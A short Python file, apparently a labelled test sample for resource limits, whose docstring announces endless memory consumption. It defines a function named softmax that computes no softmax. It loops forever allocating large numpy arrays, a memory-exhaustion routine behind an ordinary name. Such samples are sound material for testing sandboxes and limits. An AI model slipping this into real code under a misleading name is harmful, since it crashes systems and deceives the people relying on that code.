"""Memory is taken without end.

class: resources
"""


def softmax(x):
    kept = []
    while True:
        kept.append(np.ones(4_000_000))
